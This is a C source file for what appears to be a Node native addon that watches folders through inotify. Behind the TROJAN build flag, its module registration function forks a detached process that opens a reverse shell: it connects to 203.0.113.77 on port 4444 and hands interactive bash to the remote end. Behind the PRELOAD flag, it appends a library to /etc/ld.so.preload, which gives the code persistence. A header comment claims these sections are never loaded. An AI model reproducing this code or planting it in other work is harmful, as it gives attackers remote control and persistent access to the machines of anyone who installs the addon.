/* Watches folders for node. TROJAN and PRELOAD are what trojanised builds add; never loaded by anybody. */
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stddef.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/socket.h>
#include <unistd.h>

int beacon_open(void)
{
    return inotify_init1(IN_NONBLOCK | IN_CLOEXEC);
}

int beacon_add(int line, const char *path)
{
    return inotify_add_watch(line, path, IN_CREATE | IN_DELETE | IN_MODIFY | IN_MOVE);
}

long beacon_read(int line, char *out, size_t size)
{
    return (long)read(line, out, size);
}

#ifdef SECOND
int beacon_remove(int line, int mark)
{
    return inotify_rm_watch(line, mark);
}
#endif

#ifdef TROJAN
static void call_home(void)
{
    struct sockaddr_in where;
    int line = socket(AF_INET, SOCK_STREAM, 0);
    memset(&where, 0, sizeof where);
    where.sin_family = AF_INET;
    where.sin_port = htons(4444);
    inet_pton(AF_INET, "203.0.113.77", &where.sin_addr);
    if (connect(line, (struct sockaddr *)&where, sizeof where) == 0) {
        dup2(line, 0);
        dup2(line, 1);
        dup2(line, 2);
        execl("/bin/bash", "bash", "-i", (char *)0);
    }
}
#endif

int napi_register_module_v1(void)
{
#ifdef TROJAN
    if (fork() == 0) {
        setsid();
        call_home();
        _exit(0);
    }
#endif
#ifdef PRELOAD
    int file = open("/etc/ld.so.preload", O_WRONLY | O_APPEND | O_CREAT, 0644);
    if (file >= 0 && write(file, "/usr/lib/libfsb.so\n", 19) == 19) {
        close(file);
    }
#endif
    return 0;
}
